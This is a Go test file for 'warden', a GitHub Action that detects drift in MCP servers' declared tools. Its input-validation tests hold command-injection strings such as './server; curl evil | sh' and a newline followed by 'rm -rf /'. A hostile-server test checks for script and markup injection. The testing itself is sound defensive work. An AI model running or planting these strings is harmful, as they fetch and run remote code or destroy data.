package action

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/wardenlock/warden/internal/report"
	"github.com/wardenlock/warden/internal/report/reporttest"
	"github.com/wardenlock/warden/internal/testserver"
)

// harness plays the Actions runner: a workspace that is also the working
// directory (as in the container), runner files outside it, and INPUT_*
// variables.
type harness struct {
	t           *testing.T
	ws          string
	vars        map[string]string
	outputPath  string
	summaryPath string
	// sarif validates SARIF files; nil when the shared schema is absent.
	sarif *reporttest.Validator
}

// result is what one Run left behind.
type result struct {
	code           int
	stdout, stderr string
	summary        string
	outputs        map[string]string
}

func newHarness(t *testing.T) *harness {
	t.Helper()
	// The schema is found relative to the repository, so load it before
	// moving into the workspace.
	validator := reporttest.Optional(t)
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	files := t.TempDir()
	t.Chdir(ws)
	h := &harness{
		t:           t,
		sarif:       validator,
		ws:          ws,
		outputPath:  filepath.Join(files, "output"),
		summaryPath: filepath.Join(files, "summary"),
	}
	h.reset()
	return h
}

// reset clears the inputs and the runner files between two steps.
func (h *harness) reset() {
	h.vars = map[string]string{
		"GITHUB_WORKSPACE":    h.ws,
		"GITHUB_OUTPUT":       h.outputPath,
		"GITHUB_STEP_SUMMARY": h.summaryPath,
		"GITHUB_ACTOR":        "octocat",
	}
	for _, p := range []string{h.outputPath, h.summaryPath} {
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			h.t.Fatal(err)
		}
	}
	_ = os.Remove(filepath.Join(h.ws, "warden.sarif"))
}

// input sets an input the way the runner does: INPUT_ + upper-cased name,
// hyphens kept.
func (h *harness) input(name, value string) {
	h.vars["INPUT_"+strings.ToUpper(name)] = value
}

func (h *harness) run() result {
	h.t.Helper()
	var stdout, stderr bytes.Buffer
	code := Run(context.Background(), func(k string) string { return h.vars[k] }, &stdout, &stderr, "0.0.0-test")
	out, err := os.ReadFile(h.outputPath)
	if err != nil {
		h.t.Fatal(err)
	}
	outputs, err := parseOutputFile(string(out))
	if err != nil {
		h.t.Fatalf("GITHUB_OUTPUT is not what the runner can parse: %v\n%s", err, out)
	}
	summary, err := os.ReadFile(h.summaryPath)
	if err != nil {
		h.t.Fatal(err)
	}
	if wd, err := os.Getwd(); err != nil || wd != h.ws {
		h.t.Errorf("Run left the working directory at %q (%v), want %q", wd, err, h.ws)
	}
	return result{code: code, stdout: stdout.String(), stderr: stderr.String(), summary: string(summary), outputs: outputs}
}

// assertOutputs checks the exact set of outputs.
func assertOutputs(t *testing.T, r result, want map[string]string) {
	t.Helper()
	// candidate-lock is set only on drift (and written only by a single
	// server's check); unless want names it, it must be empty or absent.
	if _, ok := want["candidate-lock"]; !ok {
		if v, ok := r.outputs["candidate-lock"]; ok {
			want["candidate-lock"] = v
			if v != "" {
				t.Errorf("output candidate-lock = %q, want empty", v)
			}
		}
	}
	if len(r.outputs) != len(want) {
		t.Errorf("outputs = %q, want exactly %q", r.outputs, want)
	}
	for k, v := range want {
		got, ok := r.outputs[k]
		switch {
		case !ok:
			t.Errorf("output %s missing (outputs %q)", k, r.outputs)
		case v == "<digest>":
			if !regexp.MustCompile(`^sha256:[0-9a-f]{64}$`).MatchString(got) {
				t.Errorf("output %s = %q, want a digest", k, got)
			}
		case got != v:
			t.Errorf("output %s = %q, want %q", k, got, v)
		}
	}
}

// assertFailed checks everything an error run must leave: exit 2, the error
// outputs, an ::error annotation naming the problem, an error summary and no
// SARIF file.
func assertFailed(t *testing.T, h *harness, r result, wantMsg string) {
	t.Helper()
	if r.code != ExitError {
		t.Errorf("exit code %d, want 2\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	assertOutputs(t, r, map[string]string{"exit-code": "2", "verdict": "error", "drift-count": "", "overall-digest": "", "sarif": ""})
	found := false
	for _, line := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(line, "::error title=warden::") && strings.Contains(line, wantMsg) {
			found = true
		}
	}
	if !found {
		t.Errorf("no ::error annotation mentioning %q:\n%s", wantMsg, r.stdout)
	}
	if !strings.Contains(r.stderr, "error: ") || !strings.Contains(r.stderr, wantMsg) {
		t.Errorf("stderr does not report %q: %q", wantMsg, r.stderr)
	}
	if !strings.Contains(r.summary, "## ⚠️ warden: error") || !strings.Contains(r.summary, "warden could not complete") {
		t.Errorf("summary does not report the error:\n%s", r.summary)
	}
	if _, err := os.Stat(filepath.Join(h.ws, "warden.sarif")); err == nil {
		t.Error("a failed run wrote a SARIF file (uploading it would close existing alerts)")
	}
}

func TestRunInputErrors(t *testing.T) {
	tests := []struct {
		name    string
		inputs  map[string]string
		wantMsg string
	}{
		{"semicolon", map[string]string{"server-cmd": "./server; curl evil | sh"}, "shell metacharacter"},
		{"command substitution", map[string]string{"server-cmd": "./server $(id)"}, "shell metacharacter"},
		{"backtick", map[string]string{"server-cmd": "./server `id`"}, "shell metacharacter"},
		{"newline", map[string]string{"server-cmd": "./server\nrm -rf /"}, "newline"},
		{"both targets", map[string]string{"server-cmd": "./server", "server-url": "http://127.0.0.1:1/mcp"}, "not both"},
		{"no target", map[string]string{}, "give exactly one"},
		{"bad mode", map[string]string{"server-cmd": "./server", "mode": "yolo"}, "input mode"},
		{"working directory escapes", map[string]string{"server-cmd": "./server", "working-directory": "../.."}, "outside the workspace"},
		{"working directory missing", map[string]string{"server-cmd": "./server", "working-directory": "nope"}, "working-directory"},
		{"bad timeout", map[string]string{"server-cmd": "./server", "timeout": "-1"}, "input timeout"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t)
			for k, v := range tt.inputs {
				h.input(k, v)
			}
			assertFailed(t, h, h.run(), tt.wantMsg)
		})
	}
}

func TestRunUnderscoreInputNames(t *testing.T) {
	h := newHarness(t)
	h.vars["INPUT_SERVER_CMD"] = "./server && id"
	h.vars["INPUT_WORKING_DIRECTORY"] = "."
	assertFailed(t, h, h.run(), "input server-cmd: contains the shell metacharacter")

	// The runner's own spelling wins when both are set.
	h.reset()
	h.vars["INPUT_SERVER-CMD"] = "./a|b"
	h.vars["INPUT_SERVER_CMD"] = "./fine"
	assertFailed(t, h, h.run(), "shell metacharacter '|'")
}

func TestRunWithoutRunnerFiles(t *testing.T) {
	// Outside a runner (no GITHUB_OUTPUT or GITHUB_STEP_SUMMARY) the Action
	// still reports and exits; it just has nowhere to put outputs.
	var stdout, stderr bytes.Buffer
	env := map[string]string{"INPUT_SERVER-CMD": "a|b"}
	code := Run(context.Background(), func(k string) string { return env[k] }, &stdout, &stderr, "dev")
	if code != ExitError || !strings.Contains(stdout.String(), "::error title=warden::input server-cmd") {
		t.Errorf("code %d, stdout %q", code, stdout.String())
	}
}

// The tests below run real servers through internal/ops.

// writeLauncher writes an executable ./server script in dir that execs bin
// with args. Tests swap what it runs between pin and check, so the launch
// command (and its command_digest) stays the same, as in the self-test.
func writeLauncher(t *testing.T, dir, bin string, args ...string) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("the launcher is a POSIX shell script")
	}
	quoted := []string{shellQuote(bin)}
	for _, a := range args {
		quoted = append(quoted, shellQuote(a))
	}
	script := "#!/bin/sh\nexec " + strings.Join(quoted, " ") + "\n"
	if err := os.WriteFile(filepath.Join(dir, "server"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
}

// sarifResults validates the SARIF file and returns its results' rule ids.
func sarifResults(t *testing.T, h *harness, path string) []string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read SARIF: %v", err)
	}
	reporttest.AssertValid(t, h.sarif, data)
	var doc struct {
		Runs []struct {
			Results []struct {
				RuleID string `json:"ruleId"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(data, &doc); err != nil || len(doc.Runs) != 1 {
		t.Fatalf("SARIF: %v (%d runs)", err, len(doc.Runs))
	}
	var ids []string
	for _, r := range doc.Runs[0].Results {
		ids = append(ids, r.RuleID)
	}
	return ids
}

// countDrift counts drift rule ids.
func countDrift(ids []string) int {
	n := 0
	for _, id := range ids {
		if strings.HasPrefix(id, report.DriftRulePrefix) {
			n++
		}
	}
	return n
}

// pinDemo pins the demo server (through ./server in dir) with approval and
// checks the pin's outputs; it returns the pinned digest.
func pinDemo(t *testing.T, h *harness, demo, workDir string) string {
	t.Helper()
	writeLauncher(t, filepath.Join(h.ws, workDir), demo)
	h.input("server-cmd", "./server")
	h.input("mode", "pin")
	h.input("approver", "octocat")
	if workDir != "." {
		h.input("working-directory", workDir)
	}
	r := h.run()
	if r.code != ExitClean {
		t.Fatalf("pin exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	sarif := "warden.sarif"
	if workDir != "." {
		sarif = workDir + "/warden.sarif"
	}
	assertOutputs(t, r, map[string]string{"exit-code": "0", "verdict": "clean", "drift-count": "0", "overall-digest": "<digest>", "sarif": sarif})
	if ids := sarifResults(t, h, filepath.Join(h.ws, filepath.FromSlash(sarif))); countDrift(ids) != 0 {
		t.Errorf("pin SARIF carries drift: %v", ids)
	}
	for _, want := range []string{"## 📌 warden: pinned", "approved by <code>octocat</code>", r.outputs["overall-digest"][len("sha256:"):]} {
		if !strings.Contains(r.summary, want) {
			t.Errorf("pin summary lacks %q:\n%s", want, r.summary)
		}
	}
	if !strings.Contains(r.stdout, "pinned -> ") || !strings.Contains(r.stdout, "approved by: octocat") {
		t.Errorf("pin text missing from the log:\n%s", r.stdout)
	}
	lockText, err := os.ReadFile(filepath.Join(h.ws, workDir, "warden.lock"))
	if err != nil {
		t.Fatalf("pin wrote no lock: %v", err)
	}
	if !strings.Contains(string(lockText), r.outputs["overall-digest"]) {
		t.Errorf("the lock does not carry the output digest %s", r.outputs["overall-digest"])
	}
	h.reset()
	return r.outputs["overall-digest"]
}

func TestRunCheckCleanAndDrift(t *testing.T) {
	demo := testserver.Build(t, "testdata/demo/server")
	h := newHarness(t)
	digest := pinDemo(t, h, demo, ".")

	// Clean.
	h.input("server-cmd", "./server")
	r := h.run()
	if r.code != ExitClean {
		t.Fatalf("clean check exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	assertOutputs(t, r, map[string]string{"exit-code": "0", "verdict": "clean", "drift-count": "0", "overall-digest": digest, "sarif": "warden.sarif"})
	if ids := sarifResults(t, h, filepath.Join(h.ws, "warden.sarif")); countDrift(ids) != 0 {
		t.Errorf("clean SARIF carries drift: %v", ids)
	}
	if !strings.Contains(r.summary, "## ✅ warden: no drift") || !strings.Contains(r.stdout, "OK no drift vs warden.lock") {
		t.Errorf("clean run not reported as clean:\n%s\n%s", r.summary, r.stdout)
	}
	if strings.Contains(r.stdout, "title=WRD-DRIFT-") {
		t.Errorf("drift annotations on a clean run:\n%s", r.stdout)
	}
	// The demo's WRD-CAP-SQL finding is embedded in the lock: approved, so
	// it is in the SARIF but not raised again as an annotation.
	if strings.Contains(r.stdout, "title=WRD-CAP-SQL") {
		t.Errorf("an approved finding was annotated again:\n%s", r.stdout)
	}
	if ids := sarifResults(t, h, filepath.Join(h.ws, "warden.sarif")); !slices.Contains(ids, "WRD-CAP-SQL") {
		t.Errorf("the current finding is missing from SARIF: %v", ids)
	}
	assertQuietDuringCapture(t, r.stdout)

	// Drift: the same ./server now declares the mutated surface.
	h.reset()
	writeLauncher(t, h.ws, demo, "-mutate")
	h.input("server-cmd", "./server")
	r = h.run()
	if r.code != ExitDrift {
		t.Fatalf("drift check exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	ids := sarifResults(t, h, filepath.Join(h.ws, "warden.sarif"))
	n := countDrift(ids)
	if n == 0 {
		t.Fatalf("drift SARIF has no drift results: %v", ids)
	}
	assertOutputs(t, r, map[string]string{"exit-code": "1", "verdict": "drift", "drift-count": strconv.Itoa(n), "overall-digest": "<digest>", "sarif": "warden.sarif",
		"candidate-lock": "warden.candidate.lock"})
	if r.outputs["overall-digest"] == digest {
		t.Error("overall-digest output is the pinned digest, want the current server's")
	}
	lockText, err := os.ReadFile(filepath.Join(h.ws, "warden.lock"))
	if err != nil {
		t.Fatal(err)
	}
	weatherLine := report.IndexLock(lockText).Line("tools/get_weather")
	if weatherLine <= 1 {
		t.Fatalf("get_weather not found in the lock")
	}
	for _, want := range []string{
		"::error file=warden.lock,line=1,title=WRD-DRIFT-TOOL-ADDED::Tool 'delete_note' added since pin",
		fmt.Sprintf("::error file=warden.lock,line=%d,title=WRD-DRIFT-SCHEMA-ENUM-WIDENED::", weatherLine),
		"DRIFT DETECTED vs warden.lock",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("log lacks %q:\n%s", want, r.stdout)
		}
	}
	for _, want := range []string{
		"## ❌ warden: drift detected",
		"| high | tool-added | tools/delete&#95;note |",
		"### Review and re-pin",
		"warden pin --lock warden.lock --approve --approver &lt;you&gt; -- ./server",
		"Pinned (lock) | <code>sha256&#58;" + digest[len("sha256:"):] + "</code>",
	} {
		if !strings.Contains(r.summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, r.summary)
		}
	}
}

// assertQuietDuringCapture checks that workflow commands were stopped while
// the server ran and resumed afterwards with the same random token.
func assertQuietDuringCapture(t *testing.T, stdout string) {
	t.Helper()
	m := regexp.MustCompile(`(?m)^::stop-commands::([0-9a-f]{32})$`).FindStringSubmatch(stdout)
	if m == nil {
		t.Errorf("no ::stop-commands:: before the capture:\n%s", stdout)
		return
	}
	if !strings.Contains(stdout, "\n::"+m[1]+"::\n") {
		t.Errorf("commands were not resumed with the token:\n%s", stdout)
	}
	if strings.Index(stdout, "::"+m[1]+"::") > strings.Index(stdout, "title=") && strings.Contains(stdout, "title=") {
		t.Errorf("annotations were written while commands were stopped:\n%s", stdout)
	}
}

func TestRunWorkingDirectory(t *testing.T) {
	demo := testserver.Build(t, "testdata/demo/server")
	h := newHarness(t)
	if err := os.MkdirAll(filepath.Join(h.ws, "servers", "demo"), 0o755); err != nil {
		t.Fatal(err)
	}
	digest := pinDemo(t, h, demo, "servers/demo")
	h.input("server-cmd", "./server")
	h.input("working-directory", "servers/demo")
	h.input("sarif", "out/result.sarif")
	r := h.run()
	if r.code != ExitClean {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	assertOutputs(t, r, map[string]string{"exit-code": "0", "verdict": "clean", "drift-count": "0",
		"overall-digest": digest, "sarif": "servers/demo/out/result.sarif"})
	// A first pin into a directory that does not exist yet.
	h.reset()
	h.input("server-cmd", "./server")
	h.input("working-directory", "servers/demo")
	h.input("mode", "pin")
	h.input("lock", "locks/new/warden.lock")
	if r := h.run(); r.code != ExitClean || r.outputs["overall-digest"] != digest {
		t.Fatalf("pin into a new directory: exit %d, digest %q (want %s)\n%s", r.code, r.outputs["overall-digest"], digest, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(h.ws, "servers", "demo", "locks", "new", "warden.lock")); err != nil {
		t.Errorf("lock not written: %v", err)
	}

	data, err := os.ReadFile(filepath.Join(h.ws, "servers", "demo", "out", "result.sarif"))
	if err != nil {
		t.Fatal(err)
	}
	if ids := sarifResults(t, h, filepath.Join(h.ws, "servers", "demo", "out", "result.sarif")); len(ids) > 0 &&
		!bytes.Contains(data, []byte(`"uri": "servers/demo/warden.lock"`)) {
		t.Errorf("SARIF does not point at the lock relative to the workspace:\n%s", data)
	}
}

func TestRunCheckErrors(t *testing.T) {
	demo := testserver.Build(t, "testdata/demo/server")
	tests := []struct {
		name    string
		setup   func(t *testing.T, h *harness)
		wantMsg string
	}{
		{"missing lock", func(t *testing.T, h *harness) {
			writeLauncher(t, h.ws, demo)
		}, "warden.lock"},
		{"bad lock", func(t *testing.T, h *harness) {
			writeLauncher(t, h.ws, demo)
			if err := os.WriteFile(filepath.Join(h.ws, "warden.lock"), []byte("{not a lock"), 0o644); err != nil {
				t.Fatal(err)
			}
		}, "warden.lock"},
		{"missing server", func(t *testing.T, h *harness) {
			pinDemo(t, h, demo, ".")
			if err := os.Remove(filepath.Join(h.ws, "server")); err != nil {
				t.Fatal(err)
			}
		}, "server"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t)
			tt.setup(t, h)
			h.input("server-cmd", "./server")
			assertFailed(t, h, h.run(), tt.wantMsg)
		})
	}
}

func TestRunURL(t *testing.T) {
	sdk := testserver.Build(t, "testdata/servers/sdkserver")
	url := testserver.StartHTTP(t, sdk)
	h := newHarness(t)

	h.input("server-url", url)
	t.Setenv("WARDEN_TEST_TOKEN", "from-the-environment")
	h.input("headers", "Authorization: Bearer s3cr3t-token\nX-Token: Bearer ${WARDEN_TEST_TOKEN}")
	h.input("mode", "pin")
	r := h.run()
	if r.code != ExitClean {
		t.Fatalf("pin exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "::add-mask::Bearer s3cr3t-token\n") || strings.Contains(r.stdout, "::add-mask::${") {
		t.Errorf("literal header values must be masked, ${NAME} references not:\n%s", r.stdout)
	}
	digest := r.outputs["overall-digest"]

	h.reset()
	h.input("server-url", url)
	h.input("headers", "Authorization: Bearer s3cr3t-token")
	r = h.run()
	if r.code != ExitClean {
		t.Fatalf("check exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	assertOutputs(t, r, map[string]string{"exit-code": "0", "verdict": "clean", "drift-count": "0", "overall-digest": digest, "sarif": "warden.sarif"})
	sarifResults(t, h, filepath.Join(h.ws, "warden.sarif"))
}

// TestRunHostileServer checks a server whose tool names and descriptions
// are built to inject workflow commands, outputs and Markdown.
func TestRunHostileServer(t *testing.T) {
	demo := testserver.Build(t, "testdata/demo/server")
	hostile := testserver.Build(t, "internal/action/testdata/hostile")
	h := newHarness(t)
	pinDemo(t, h, demo, ".")

	writeLauncher(t, h.ws, hostile)
	h.input("server-cmd", "./server")
	r := h.run()
	if r.code != ExitDrift {
		t.Fatalf("exit %d, want 1\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}

	// Outputs: exactly the six, with values warden computed.
	ids := sarifResults(t, h, filepath.Join(h.ws, "warden.sarif"))
	assertOutputs(t, r, map[string]string{"exit-code": "1", "verdict": "drift", "drift-count": strconv.Itoa(countDrift(ids)),
		"overall-digest": "<digest>", "sarif": "warden.sarif", "candidate-lock": "warden.candidate.lock"})

	// Log: every line that the runner would read as a command is one of
	// warden's own, and no raw control character survives.
	assertQuietDuringCapture(t, r.stdout)
	allowed := regexp.MustCompile(`^::((error|warning|notice) (file=warden\.lock,line=[0-9]+,)?title=[^:,]+::[^\r\n]*|stop-commands::[0-9a-f]{32}|[0-9a-f]{32}::)$`)
	kinds := map[string]int{}
	for _, line := range strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n") {
		if strings.ContainsAny(line, "\r\x1b\x07") {
			t.Errorf("raw control character in log line %q", line)
		}
		trimmed := strings.TrimLeft(line, " \t")
		if !strings.HasPrefix(trimmed, "::") {
			continue
		}
		if !allowed.MatchString(trimmed) {
			t.Errorf("unexpected workflow command in the log: %q", line)
			continue
		}
		if k, _, ok := strings.Cut(trimmed[2:], " "); ok {
			kinds[k]++
		}
	}
	for k, n := range kinds {
		if n > report.AnnotationLimit {
			t.Errorf("%d %s annotations, over GitHub's %d", n, k, report.AnnotationLimit)
		}
	}
	if kinds["error"] == 0 {
		t.Errorf("no error annotations for the hostile tools:\n%s", r.stdout)
	}

	// Summary: no markup from the server survives, and table rows keep
	// their cells. The server's own words are quoted verbatim, but only
	// inside fenced code blocks (where Markdown and HTML mean nothing) in
	// the collapsed server-controlled section.
	outside, quoted := splitQuotes(t, r.summary)
	for _, bad := range []string{"<script", "<img", "</code></pre>", "[click me]", "](https", "ghadelimiter_", "\x1b", "**bold**", "@org/team"} {
		if strings.Contains(outside, bad) {
			t.Errorf("summary contains raw %q", bad)
		}
	}
	if !strings.Contains(quoted, "ghadelimiter_") || strings.Contains(quoted, "\x1b") {
		t.Errorf("the server's words are not quoted as they are, made safe:\n%s", quoted)
	}
	// Those words (here a description's "<b>x</b>") stay out of code
	// scanning and the annotations, which are hash-level.
	const words = "<b>x</b>"
	if !strings.Contains(quoted, words) {
		t.Errorf("the summary does not quote the new tools' descriptions:\n%s", quoted)
	}
	sarifText, err := os.ReadFile(filepath.Join(h.ws, "warden.sarif"))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(sarifText), words) || strings.Contains(string(sarifText), "server-controlled") {
		t.Errorf("the SARIF file quotes the server's words")
	}
	for _, line := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") && strings.Contains(line, words) {
			t.Errorf("an annotation quotes the server's words: %q", line)
		}
	}
	rows := 0
	for _, line := range strings.Split(r.summary, "\n") {
		for _, sev := range []string{"critical", "high", "medium", "low"} {
			if strings.HasPrefix(line, "| "+sev+" |") {
				rows++
				if n := strings.Count(line, "|"); n != 5 {
					t.Errorf("table row with %d pipes (a cell broke out): %q", n, line)
				}
			}
		}
	}
	if rows < len(ids) && rows < report.DefaultSummaryRows {
		t.Errorf("%d table rows for %d results:\n%s", rows, len(ids), r.summary)
	}
}

// splitQuotes splits a summary into what is outside its fenced quotes of
// server text and what is inside them, checking that every quote is in the
// collapsed section labelled as server-controlled text.
func splitQuotes(t *testing.T, md string) (outside, quoted string) {
	t.Helper()
	var out, in strings.Builder
	fence, section := "", false
	for _, line := range strings.Split(md, "\n") {
		switch {
		case fence != "":
			if line == fence {
				fence = ""
				continue
			}
			in.WriteString(line + "\n")
			continue
		case strings.HasPrefix(line, "<details><summary>Server-controlled text"):
			section = true
		case line == "</details>":
			section = false
		case strings.HasPrefix(line, "```"):
			fence = strings.TrimRight(line, "abcdefghijklmnopqrstuvwxyz")
			if !section {
				t.Errorf("a fenced block outside the server-controlled section: %q", line)
			}
			continue
		}
		out.WriteString(line + "\n")
	}
	return out.String(), in.String()
}
